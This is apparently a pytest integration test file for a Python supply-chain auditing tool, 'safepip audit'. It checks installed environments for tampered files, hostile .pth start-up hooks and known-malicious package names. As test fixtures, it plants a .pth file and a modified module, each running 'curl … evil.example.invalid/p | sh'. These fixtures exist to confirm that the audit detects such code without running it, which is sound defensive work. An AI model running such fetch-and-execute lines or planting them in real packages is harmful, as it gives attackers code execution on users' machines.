"""Issue 13: `safepip audit` with no inputs checks the installed environment from its recorded
files (RECORD hashes, the hook scan of what is on disk, unowned start-up files), never running
that environment's code."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.integration.conftest import VenvFactory
from tests.kit.archives import make_wheel
from tests.kit.index_server import IndexServer

Factory = Callable[..., IndexServer]

pytestmark = pytest.mark.integration


def _audit(venv: Path, env: dict[str, str], cwd: Path, *extra: str
           ) -> tuple[int, dict[str, Any], str]:
    result = subprocess.run(
        [sys.executable, "-m", "safepip", "audit", "--python", str(venv), "--format", "json",
         *extra], env=env, cwd=cwd, capture_output=True, text=True, timeout=300)
    return result.returncode, json.loads(result.stdout or "{}"), result.stderr


@pytest.fixture
def installed(tmp_path: Path, index_server: Factory, make_venv: VenvFactory,
              pip_env: dict[str, str]) -> Path:
    """A venv into which real pip installed two generated wheels from the loopback index."""
    dist = tmp_path / "dist"
    server = index_server([
        make_wheel(dist, "orchard", "1.0", requires_dist=["pear-lib"], files={
            "orchard/__init__.py": "from orchard.core import ripe\n",
            "orchard/core.py": "def ripe():\n    return True\n",
            "orchard/cli.py": "def main():\n    print('ok')\n",
            "orchard/notes.txt": "plain data\n",
        }, entry_points="[console_scripts]\norchard-cli = orchard.cli:main\n"),
        make_wheel(dist, "pear-lib", "0.3"),
    ])
    venv = make_venv(tmp_path / "venv")
    subprocess.run([str(venv / "bin" / "python"), "-m", "pip", "install", "-q",
                    "--index-url", server.index_url, "orchard"],
                   env=pip_env, check=True, capture_output=True, timeout=300)
    return venv


def _site(venv: Path) -> Path:
    (site,) = venv.glob("lib/python*/site-packages")
    return site


def test_a_clean_environment_audits_clean_from_its_recorded_files(
    installed: Path, pip_env: dict[str, str], tmp_path: Path,
) -> None:
    code, report, err = _audit(installed, pip_env, tmp_path)
    assert code == 0, err
    assert report["verdict"] == "allow"
    by_name = {p["name"]: p for p in report["packages"]}
    assert {"orchard", "pear-lib", "pip"} <= set(by_name)
    assert by_name["orchard"]["metadata_source"] == "installed"
    assert by_name["orchard"]["artifact"]["filename"] == "orchard-1.0.dist-info/RECORD"
    assert "installed distributions checked from their recorded files (RECORD)" in err
    assert not [f for f in report["findings"] if f["severity"] in ("medium", "high", "critical")]
    # The test venvs borrow pip through a .pth file no RECORD owns: reported, low.
    unowned = [f for f in report["findings"] if f["rule"] == "installed/unowned-start-file"]
    assert [Path(f["location"]["path"]).name for f in unowned] == ["_lent_pip.pth"]


def test_tampered_files_and_an_unowned_hostile_pth_are_found_and_never_run(
    installed: Path, pip_env: dict[str, str], tmp_path: Path,
) -> None:
    site = _site(installed)
    canary = tmp_path / "CANARY"
    (site / "orchard" / "core.py").write_text("def ripe():\n    return False\n")
    (site / "orchard" / "notes.txt").unlink()
    (installed / "bin" / "orchard-cli").write_text("#!/bin/sh\necho changed\n")
    (site / "zz_speedups.pth").write_text(
        f"import os; os.system('touch {canary}; curl -s https://evil.example.invalid/p | sh')\n")
    code, report, err = _audit(installed, pip_env, tmp_path)
    assert not canary.exists(), "the audited environment's start-up code ran"
    assert code == 1, err
    assert report["verdict"] == "block"
    found = {(f["rule"], f["package"], f["location"]["path"] if f["location"] else None):
             f["severity"] for f in report["findings"]}
    assert found[("installed/modified-file", "orchard", "orchard/core.py")] == "high"
    assert found[("installed/modified-file", "orchard", "../../../bin/orchard-cli")] == "high"
    assert found[("installed/missing-file", "orchard", "orchard/notes.txt")] == "medium"
    pth = [f for f in report["findings"] if f["package"] == "zz-speedups"]
    assert {f["rule"] for f in pth} == {"installed/unowned-start-file", "hook/pth-exec"}
    assert max(f["severity"] for f in pth if f["rule"] == "hook/pth-exec") == "critical"
    assert not any(f["package"] == "pear-lib" for f in report["findings"])


def test_the_environment_probe_never_runs_its_pth_files(
    make_venv: VenvFactory, tmp_path: Path,
) -> None:
    from safepip.resolution.environment import StartedProbe

    venv = make_venv(tmp_path / "venv")
    canary = tmp_path / "CANARY"
    extra = tmp_path / "extra-path"
    extra.mkdir()
    site = _site(venv)
    (site / "a_hook.pth").write_text(f"{extra}\nimport os; open({str(canary)!r}, 'w')\n")
    with StartedProbe(str(venv / "bin" / "python")) as probe:
        facts = probe.facts()
    assert not canary.exists()
    assert str(extra) in facts["paths"] and str(site) in facts["paths"]
    assert facts["site"] == [str(site)]


def test_a_distribution_without_record_is_named_and_vetted_from_the_index(
    installed: Path, pip_env: dict[str, str], tmp_path: Path, index_server: Factory,
) -> None:
    (_site(installed) / "pear_lib-0.3.dist-info" / "RECORD").unlink()
    # Only the installed version is vetted, never a dependency tree of its own (`ghost-dep`
    # is neither installed nor on the index).
    server = index_server([make_wheel(tmp_path / "other", "pear-lib", "0.3",
                                      requires_dist=["ghost-dep"])])
    code, report, err = _audit(installed, pip_env, tmp_path, "--index-url", server.index_url)
    assert code == 0, err
    assert "1 without a RECORD could not be: pear-lib 0.3" in err
    by_name = {p["name"]: p for p in report["packages"]}
    assert by_name["pear-lib"]["artifact"]["filename"] == "pear_lib-0.3-py3-none-any.whl"
    assert by_name["orchard"]["metadata_source"] == "installed"
    assert ("installed/no-record", "pear-lib") in {(f["rule"], f["package"])
                                                   for f in report["findings"]}


def test_name_checks_apply_to_what_is_installed(
    make_venv: VenvFactory, pip_env: dict[str, str], tmp_path: Path,
) -> None:
    """`aaiohttp` is an OSV MAL- record for every version: installed, it blocks the audit
    though its recorded files are intact and harmless."""
    venv = make_venv(tmp_path / "venv")
    site = _site(venv)
    (site / "aaiohttp").mkdir()
    (site / "aaiohttp" / "__init__.py").write_text("")
    info = site / "aaiohttp-3.8.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: aaiohttp\nVersion: 3.8.0\n")
    empty = "sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0"  # sha256 of b""
    (info / "RECORD").write_text(
        f"aaiohttp/__init__.py,{empty}\naaiohttp-3.8.0.dist-info/METADATA,,\n"
        "aaiohttp-3.8.0.dist-info/RECORD,,\n")
    code, report, err = _audit(venv, pip_env, tmp_path)
    assert code == 1, err
    rules = {(f["rule"], f["package"]) for f in report["findings"]}
    assert ("name/known-malicious", "aaiohttp") in rules
    assert not any(rule.startswith("installed/") and package == "aaiohttp"
                   for rule, package in rules)


def test_a_recorded_file_replaced_by_a_link_or_a_fifo_is_a_finding(tmp_path: Path) -> None:
    """Same bytes through a symlink still count as changed (pip never installs links), and a
    FIFO is never read (it would block the audit)."""
    import hashlib
    import os

    from packaging.utils import canonicalize_name
    from packaging.version import Version

    from safepip.checks.installed import RecordRow, verify_record
    from safepip.resolution.environment import InstalledProject

    site = tmp_path / "site"
    (site / "pkg").mkdir(parents=True)
    data = b"x = 1\n"
    digest = hashlib.sha256(data).digest()
    elsewhere = tmp_path / "elsewhere.py"
    elsewhere.write_bytes(data)
    (site / "pkg" / "linked.py").symlink_to(elsewhere)
    os.mkfifo(site / "pkg" / "piped.py")
    (site / "pkg" / "fine.py").write_bytes(data)
    rows = [RecordRow(f"pkg/{name}.py", "sha256", digest, len(data))
            for name in ("linked", "piped", "fine")]
    project = InstalledProject(canonicalize_name("pkg"), Version("1"), site / "x" / "METADATA")
    found = {f.location.path: (f.rule, f.severity.label) for f in verify_record(site, rows, project)
             if f.location is not None}
    assert found == {"pkg/linked.py": ("installed/modified-file", "high"),
                     "pkg/piped.py": ("installed/modified-file", "high")}


def test_a_cached_scan_never_hides_a_change(
    installed: Path, pip_env: dict[str, str], tmp_path: Path,
) -> None:
    """Scan results are reused only for a RECORD whose files all still match it."""
    first = _audit(installed, pip_env, tmp_path)
    again = _audit(installed, pip_env, tmp_path)
    assert first[0] == again[0] == 0
    assert first[1]["findings"] == again[1]["findings"]
    (_site(installed) / "orchard" / "core.py").write_text(
        "import os\nos.system('curl -s https://evil.example.invalid/p | sh')\n")
    code, report, err = _audit(installed, pip_env, tmp_path)
    assert code == 1, err
    at_core = {f["rule"] for f in report["findings"]
               if f["location"] and f["location"]["path"] == "orchard/core.py"}
    assert "installed/modified-file" in at_core
    assert any(rule.startswith("hook/") for rule in at_core), at_core
